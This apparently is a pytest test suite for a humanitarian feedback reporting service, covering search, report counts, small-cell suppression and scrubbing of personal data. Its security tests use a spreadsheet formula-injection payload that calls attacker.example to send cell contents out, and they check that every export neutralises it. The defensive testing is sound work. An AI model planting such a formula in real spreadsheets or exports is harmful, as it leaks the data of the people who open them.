"""What a person types reaches the index, the journal and the reports only as gazetteer names and
scrubbed text; reports keep every key of both periods, withhold small cells and never run a formula;
the index follows a reclassification; stored reports are found whatever else is kept."""
import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from uuid import uuid4

import pytest
import requests
from elasticsearch import Elasticsearch
from openpyxl import load_workbook
from psycopg.types.json import Jsonb

from contracts.common import Channel, Location, Respondent
from contracts.events import CaseClassified, CaseOpened, FeedbackReceived
from tests.conftest import ES_URL, wait_for
from tests.helpers import publish_event

MONDAY = datetime(2026, 11, 16, 9, tzinfo=UTC)
ATTACK = '=HYPERLINK("http://attacker.example/?"&B3,"Kindia")'


def journalled(db, count):
    wait_for(lambda: db.execute("SELECT count(*) FROM reporting.journal").fetchone()[0] >= count, timeout=30)
    Elasticsearch(ES_URL).indices.refresh(index="*")


def open_case(amqp_uri, reference, received, *, channel="sms", region=None, restricted=False, category=4,
              sex=None):
    case_id = uuid4()
    publish_event(amqp_uri, "intake", FeedbackReceived(
        feedback_id=uuid4(), reference=reference, channel=channel, narrative="Retard de paiement",
        received_at=received, location=Location(adm1=region) if region else None,
        respondent=Respondent(sex=sex) if sex else None))
    publish_event(amqp_uri, "cases", CaseOpened(
        case_id=case_id, reference=reference, feedback_id=uuid4(), channel=Channel(channel),
        narrative="Retard de paiement", received_at=received, opened_at=received, sensitive=restricted,
        restricted=restricted, priority="high" if restricted else "normal",
        deadline_kind="refer" if restricted else "acknowledge", deadline_at=received + timedelta(days=1),
        category_code=category))
    return case_id


def report(service, fmt="json", day="2026-11-18", role="manager"):
    answer = requests.get(f"{service.url}/v1/reports", params={"period": "week", "date": day, "country": "GN",
                                                              "format": fmt}, headers=service.headers(role, ("GN",)))
    assert answer.status_code == 200, answer.text
    return answer


# --- issue 15 ---------------------------------------------------------------------------------------------

def test_a_case_a_person_reclassified_as_fraud_is_found_by_its_new_priority(run_service, amqp_uri, db, es_prefix):
    reporting = run_service("reporting")
    case_id = open_case(amqp_uri, "GN-2026-000001", MONDAY)
    publish_event(amqp_uri, "cases", CaseClassified(
        case_id=case_id, reference="GN-2026-000001", case_version=2, status="new", restricted=True, at=MONDAY,
        by="agent-1", category_code=7, taxonomy_version=1, sensitive=True, confirmed=True, priority="high"))
    journalled(db, 3)
    found = requests.get(f"{reporting.url}/v1/search", params={"priority": "high", "category_code": "7"},
                         headers=reporting.headers("focal_point", ("GN",))).json()
    assert [(hit["reference"], hit["priority"]) for hit in found["results"]] == [("GN-2026-000001", "high")]


def test_a_channel_that_went_silent_is_listed_with_its_previous_count(run_service, amqp_uri, db, es_prefix):
    reporting = run_service("reporting")
    open_case(amqp_uri, "GN-2026-000001", MONDAY - timedelta(days=7), channel="web_form")
    open_case(amqp_uri, "GN-2026-000002", MONDAY - timedelta(days=6), channel="sms")
    open_case(amqp_uri, "GN-2026-000003", MONDAY, channel="sms")
    journalled(db, 6)
    messages = report(reporting).json()["messages"]
    assert {(c["key"], c["count"], c["previous"]) for c in messages["by_channel"]} == {
        ("sms", 1, 1), ("web_form", 0, 1)}
    assert ("4", 1, 2) in {(c["key"], c["count"], c["previous"]) for c in messages["by_category"]}
    silent = report(reporting, day="2026-11-25").json()["messages"]
    assert (silent["total"], silent["previous_total"]) == (0, 1)
    assert [(c["key"], c["count"], c["previous"]) for c in silent["by_channel"]] == [("sms", 0, 1)]
    assert [(c["key"], c["count"], c["previous"]) for c in silent["by_country"]] == [("GN", 0, 1)]


def test_a_callers_stored_reports_are_listed_however_many_others_are_kept(run_service, db):
    reporting = run_service("reporting")
    body = lambda countries: Jsonb({"countries": countries})
    for week in range(201):  # Mali's reports are newer than Guinea's only one
        db.execute("""INSERT INTO reporting.reports (report_id, scope, period, period_start, generated_at, body, hxl)
                      VALUES (%s, 'ML', 'week', %s, now(), %s, '')""",
                   [uuid4(), date(2026, 11, 16) - timedelta(weeks=week), body(["ML"])])
    db.execute("""INSERT INTO reporting.reports (report_id, scope, period, period_start, generated_at, body, hxl)
                  VALUES (%s, 'GN', 'week', '2022-01-03', now(), %s, '')""", [uuid4(), body(["GN"])])
    db.commit()
    kept = requests.get(f"{reporting.url}/v1/reports/stored", headers=reporting.headers("manager", ("GN",))).json()
    assert [(r["scope"], r["start"]) for r in kept["reports"]] == [("GN", "2022-01-03")]


# --- issue 9 ---------------------------------------------------------------------------------------------

@pytest.mark.security
def test_a_formula_typed_as_a_place_or_a_sub_category_is_inert_in_every_export(
        run_service, amqp_uri, db, es_prefix):
    """The place as from an intake that did not match it to the gazetteer yet (events in flight at an
    upgrade); the sub-category as a staff member may type it."""
    reporting = run_service("reporting")
    for number in range(1, 7):
        reference = f"GN-2026-{number:06d}"
        case_id = open_case(amqp_uri, reference, MONDAY + timedelta(hours=number), region=ATTACK)
        publish_event(amqp_uri, "cases", CaseClassified(
            case_id=case_id, reference=reference, case_version=2, status="new", restricted=False, at=MONDAY,
            by="agent-1", category_code=4, sub_category=ATTACK, taxonomy_version=1, sensitive=False,
            confirmed=True))
    journalled(db, 18)
    document = Elasticsearch(ES_URL).get(index=f"{es_prefix}-cases", id="GN-2026-000001")["_source"]
    assert document["adm1"] == "other"
    workbook = load_workbook(io.BytesIO(report(reporting, "xlsx").content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [f"{cell.parent.title}!{cell.coordinate}" for cell in cells if cell.data_type == "f"]
    assert [(cell.parent.title, cell.data_type) for cell in cells if cell.value == ATTACK] == [("Topics", "s")]
    for fmt in ("csv", "hxl"):
        fields = [field for row in csv.reader(io.StringIO(report(reporting, fmt).text)) for field in row]
        assert "'" + ATTACK in fields
        assert not [field for field in fields if field[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.security
def test_a_restricted_case_is_not_singled_out_by_its_region(run_service, amqp_uri, db, es_prefix):
    reporting = run_service("reporting")
    for number in range(1, 6):
        open_case(amqp_uri, f"GN-2026-{number:06d}", MONDAY + timedelta(hours=number), region="Kindia", sex="female")
    open_case(amqp_uri, "GN-2026-000006", MONDAY, region="Mamou", restricted=True, category=6, sex="male")
    journalled(db, 12)
    messages = report(reporting, role="supervisor").json()["messages"]
    locations = {c["key"]: (c["count"], c["suppressed"]) for c in messages["by_location"]}
    assert locations == {"Kindia": (5, False), "Mamou": (None, True)}
    assert {c["key"]: c["count"] for c in messages["by_sex"]}["male"] is None
    sheet = load_workbook(io.BytesIO(report(reporting, "xlsx").content))["By location"]
    assert [row for row in sheet.iter_rows(min_row=2, values_only=True)] == [("Kindia", 5, 0), ("Mamou", "<5", 0)]
    hxl = list(csv.DictReader(io.StringIO(report(reporting, "hxl").text)))[1:]
    assert {(row["Category"], row["Messages"]) for row in hxl} == {("4", "5"), ("6", "<5")}


@pytest.mark.security
def test_a_name_and_phone_typed_as_a_village_reach_neither_the_index_nor_the_journal(
        run_service, amqp_uri, db, es_prefix):
    reporting = run_service("reporting")
    run_service("cases")
    intake = run_service("intake")
    answer = requests.post(f"{intake.url}/v1/channels/web-form/gn_web", json={
        "narrative": "Je suis Aïssatou Sow, la distribution de riz à Mambia est en retard. Rappelez au 622/12/34/56 "
                     "ou 622,98,76,54, carte n° 123456, gn1234567.",
        "contact": {"name": "Aissatou Sow"},
        "location": {"adm1": ATTACK, "adm2": "kindia", "place": "Aissatou Sow 664 00 11 22"}})
    assert answer.status_code == 202, answer.text
    reference = answer.json()["reference"]
    [sent] = [row[0]["payload"] for row in db.execute(
        "SELECT body FROM intake.outbox WHERE event_type = 'feedback_received'")]
    assert sent["location"] == {"adm1": "Kindia", "adm2": "Kindia", "adm3": None, "place": "other"}
    assert "Sow" not in sent["narrative"] and sent["narrative"].startswith("Je suis [name], la distribution")
    wait_for(lambda: db.execute("SELECT count(*) FROM reporting.journal WHERE event_type = 'case_opened'")
             .fetchone()[0] == 1, timeout=30)
    Elasticsearch(ES_URL).indices.refresh(index="*")
    journal = db.execute("SELECT string_agg(envelope::text, ' ') FROM reporting.journal").fetchone()[0]
    document = json.dumps(Elasticsearch(ES_URL).get(index=f"{es_prefix}-cases", id=reference)["_source"],
                          ensure_ascii=False)
    for kept in (journal, document):
        # The numbers as typed, whole or in pieces: a bare "622" may stand in a random id by chance.
        for personal in ("Sow", "Aissatou", "Aïssatou", "664 00", "00 11 22", "622/12", "12/34/56", "622,98",
                         "98,76,54", "123456", "1234567", "HYPERLINK"):
            assert personal not in kept, personal
    assert "la distribution de riz à Mambia est en retard" in document
